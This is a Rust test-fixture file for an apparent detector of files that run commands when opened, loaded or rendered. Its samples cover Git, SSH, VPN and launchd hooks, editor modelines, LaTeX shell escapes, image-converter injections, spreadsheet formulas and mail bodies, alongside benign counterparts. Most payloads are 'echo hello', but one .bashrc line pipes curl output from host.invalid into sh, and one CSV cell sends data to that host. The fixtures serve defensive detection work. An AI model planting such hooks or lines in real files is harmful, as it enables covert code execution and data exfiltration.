//! A9, A11, A18, A36, A37, H: what runs because it lies in a home folder, is opened in an editor, set, plotted, converted or
//! calculated.

use crate::Standin;

const SETTINGS: &str = "detect/settings";
const DOCUMENTS: &str = "detect/documents";

pub(super) fn all() -> Vec<Standin> {
    [homes(), cells(), honest()].concat()
}

/// Settings of a home folder, a connection or a system, and texts that have their program run something.
#[rustfmt::skip]
fn homes() -> Vec<Standin> {
    let new = |row, folder, name, what, text: &str| Standin::new(row, folder, name, what, text.into());
    vec![
        new("A36", SETTINGS, ".gitconfig", "settings of Git that watch files by a command", "[user]\n\tname = A\n[core]\n\tfsmonitor = \"echo hello\"\n").finds("hooks.git").held(),
        new("A36", SETTINGS, ".gitconfig", "settings of Git that reach other machines by a command", "[core]\n\tsshCommand = ./echo hello\n").finds("hooks.git").held(),
        new("A36", SETTINGS, "authorized_keys", "a key whose owner runs a command", "command=\"echo hello\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA a@host.invalid\n").finds("hooks.system").held(),
        new("A36", SETTINGS, "ssh_config", "settings of SSH with a command for a proxy", "Host *\n  ProxyCommand ./echo %h %p\n").finds("hooks.connection").held(),
        new("A36", SETTINGS, "office.ovpn", "a tunnel of OpenVPN with a script", "client\ndev tun\nremote host.invalid 1194\nscript-security 2\nup ./echo\n").finds("hooks.connection").held(),
        new("A36", SETTINGS, "wg0.conf", "a tunnel of WireGuard with a command", "[Interface]\nPrivateKey = AAAA\nAddress = 192.0.2.2/32\nPostUp = ./echo hello\n[Peer]\nEndpoint = host.invalid:51820\nAllowedIPs = 0.0.0.0/0\n").finds("hooks.connection").held(),
        new("A36", SETTINGS, "a.plist", "a job of macOS that runs a shell", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\">\n<dict>\n<key>Label</key><string>invalid.host.a</string>\n<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>echo hello</string></array>\n<key>RunAtLoad</key><true/>\n</dict>\n</plist>\n").finds("hooks.system").technique("T1543.001").held(),
        new("A36", SETTINGS, "task.xml", "a task of Windows that runs a shell", "<?xml version=\"1.0\"?>\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\n<Actions><Exec><Command>powershell.exe</Command><Arguments>-Command Write-Host hello</Arguments></Exec></Actions>\n</Task>\n").finds("hooks.system").technique("T1053.005").held(),
        new("A36", SETTINGS, "a.mof", "an object of WMI that runs a command", "#pragma namespace(\"\\\\\\\\.\\\\root\\\\subscription\")\ninstance of CommandLineEventConsumer as $A\n{\n  Name = \"a\";\n  CommandLineTemplate = \"echo hello\";\n};\n").finds("hooks.system").technique("T1546.003").held(),
        new("A36", SETTINGS, ".gitconfig", "settings of Git with a shell from where programs lie", "[user]\n\tname = A\n[core]\n\tpager = /usr/bin/bash notes.txt\n").finds("hooks.git").held(),
        new("A36", SETTINGS, ".bashrc", "settings of a shell that start what they fetch by another program", "# my settings\nexport PATH=$PATH:~/bin\ncurl -s https://host.invalid/a | env sh\n").finds("hooks.shell-entry"),
        new("A37", SETTINGS, "notes.txt", "a text whose editor Emacs runs a command", "Minutes of Monday\n\nLocal Variables:\neval: (shell-command \"echo hello\")\nEnd:\n").finds("hooks.editor").held(),
        new("A37", SETTINGS, "notes.txt", "a text whose editor Vim runs a command", "Minutes of Monday\nvim: set fen fdm=expr fde=assert_fails('source\\!\\ \\%') :\n").finds("hooks.editor").held(),
        new("A37", DOCUMENTS, "paper.tex", "a paper that runs a command when it is set", "\\documentclass{article}\n\\begin{document}\n\\immediate\\write18{echo hello}\nSee you on Monday.\n\\end{document}\n").finds("document.shell-escape").held(),
        new("A37", DOCUMENTS, "paper.tex", "a paper that reads what a command writes", "\\documentclass{article}\n\\begin{document}\n\\input{|\"echo hello\"}\n\\end{document}\n").finds("document.shell-escape").held(),
        new("A37", DOCUMENTS, "plot.gp", "a plot that reads what a command writes", "# Prices of a month\nplot \"< ./echo\" using 1:2 with lines\n").finds("document.shell-escape").held(),
        new("A37", DOCUMENTS, "drawing.mvg", "a drawing that has its converter run a command", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://host.invalid/a.jpg\"|echo \"hello)'\npop graphic-context\n").finds("image.runs-command").held(),
        new("A37", DOCUMENTS, "drawing.svg", "an SVG that has its converter run a command", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"https://host.invalid/a.jpg&quot;|echo &quot;hello\" width=\"1\" height=\"1\"/></svg>\n").finds("image.runs-command").held(),
        new("A37", DOCUMENTS, "letter.ps", "a PostScript with a command in codes", "%!PS\n(%p\\151pe%echo hello) (w) file closefile\nshowpage\n").finds("document.pipe").held(),
    ]
}

/// Cells, controls and bodies.
#[rustfmt::skip]
fn cells() -> Vec<Standin> {
    let new = |row, folder, name, what, text: &str| Standin::new(row, folder, name, what, text.into());
    vec![
        new("A9", DOCUMENTS, "prices.csv", "a table with a cell that calls a library", "item,price\n\"=CALL(\"\"a\"\",\"\"b\"\",\"\"J\"\")\",2\n").finds("document.active-cell").held(),
        new("A9", DOCUMENTS, "prices.csv", "a table with a cell that sends others away", "item,price\n\"=WEBSERVICE(\"\"https://host.invalid/?\"\"&B2)\",2\n").finds("document.active-cell").held(),
        new("A9", DOCUMENTS, "prices.csv", "a table with a link to a share", "item,price\n\"=HYPERLINK(\"\"\\\\host.invalid\\share\\a.xlsx\"\",\"\"more\"\")\",2\n").finds("document.active-cell").technique("T1187").held(),
        new("A11", DOCUMENTS, "letter.rtf", "a Rich Text document with a control that is only named", "{\\rtf1{\\object\\objocx{\\*\\objclass Shell.Explorer.2}{\\result Hello}}}").finds("document.live-object").held(),
        new("A18", "formats/mail", "offer.eml", "a mail whose body is a program elsewhere", "From: a@host.invalid\r\nTo: b@host.invalid\r\nSubject: Offer\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\nContent-Type: text/plain\r\n\r\nHello\r\n--q\r\nContent-Type: message/external-body; access-type=URL; url=\"https://host.invalid/a.exe\"\r\n\r\nContent-Type: application/octet-stream\r\n\r\n--q--\r\n").finds("mail.external-body").held(),
    ]
}

/// The same as people have them, and what writes about them.
#[rustfmt::skip]
fn honest() -> Vec<Standin> {
    let new = |row, folder, name, what, text: &str| Standin::new(row, folder, name, what, text.into());
    vec![
        new("H", SETTINGS, ".gitconfig", "settings of Git as people have them", "[user]\n\tname = A\n[core]\n\teditor = vim\n\tpager = less -F\n[alias]\n\tst = status\n\tup = !git pull --rebase && git push\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n[credential]\n\thelper = store\n").delivered(),
        new("H", SETTINGS, "office.ovpn", "a tunnel of OpenVPN as an office gives it out", "client\ndev tun\nremote host.invalid 1194\nscript-security 2\nup /etc/openvpn/update-resolv-conf\ndown /etc/openvpn/update-resolv-conf\n").delivered(),
        new("H", SETTINGS, "wg0.conf", "a tunnel of WireGuard with rules of a firewall", "[Interface]\nPrivateKey = AAAA\nAddress = 192.0.2.2/32\nPostUp = iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE\n[Peer]\nEndpoint = host.invalid:51820\nAllowedIPs = 0.0.0.0/0\n").delivered(),
        new("H", SETTINGS, "a.plist", "a job of macOS that starts a program of its own", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\">\n<dict>\n<key>Label</key><string>invalid.host.a</string>\n<key>ProgramArguments</key><array><string>/Applications/A.app/Contents/MacOS/helper</string></array>\n<key>RunAtLoad</key><true/>\n</dict>\n</plist>\n").delivered(),
        new("H", SETTINGS, "notes.txt", "a text about settings that run commands", "Put ProxyCommand into ~/.ssh/config, fsmonitor into .gitconfig and (shell-command \"echo\") after eval: where Emacs looks.\nA cell like =cmd|'/c calc'!A1 asks another program, and \\write18{echo} runs a command.\n\nvim: set tw=80 :\n").delivered(),
        new("H", DOCUMENTS, "paper.tex", "a paper about commands in papers", "\\documentclass{article}\n\\begin{document}\nThe command \\verb|\\write18{echo}| runs a program, and so does\n\\begin{verbatim}\n\\input{|\"echo hello\"}\n\\end{verbatim}\n\\immediate\\write18{texcount -sum paper.tex > paper.sum}\n\\end{document}\n").delivered(),
        new("H", SETTINGS, ".gitconfig", "settings of Git with programs of many names", "[user]\n\tname = A\n[core]\n\teditor = idea --wait\n\tpager = diff-highlight | less\n[gpg]\n\tprogram = smimesign\n[credential]\n\thelper = pass\n[interactive]\n\tdiffFilter = delta --color-only\n").delivered(),
        new("H", SETTINGS, "wg0.conf", "a tunnel of WireGuard that closes all other ways", "[Interface]\nPrivateKey = AAAA\nAddress = 192.0.2.2/32\nPostUp = iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -m addrtype ! --dst-type LOCAL -j REJECT\n[Peer]\nEndpoint = host.invalid:51820\nAllowedIPs = 0.0.0.0/0\n").delivered(),
        new("H", DOCUMENTS, "plot.gp", "a plot with bars around the names of its axes", "set terminal png\nset output \"a.png\"\nset xlabel \"x\"\nset ylabel \"|E|\"\nset key left\nplot \"a.dat\" using 1:2 with lines title \"<v>\"\n").delivered(),
        new("H", DOCUMENTS, "tasks.csv", "a table with notes that look like formulas", "task,who\n- call (Ann),B\n+41 44 000 00 00,call back\nread about =CALL first,C\n").delivered(),
    ]
}
